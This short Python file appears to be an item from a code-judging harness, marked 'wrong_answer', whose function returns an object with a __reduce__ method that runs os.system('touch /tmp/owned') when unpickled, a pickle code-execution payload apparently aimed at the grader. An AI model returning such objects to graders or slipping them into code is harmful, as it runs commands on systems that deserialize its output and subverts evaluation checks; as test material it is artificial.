# Tries: an object that runs code where it is unpickled
# Verdict: wrong_answer
import os


class Evil:
    def __reduce__(self):
        return os.system, ("touch /tmp/owned",)


def f(x):
    return Evil()
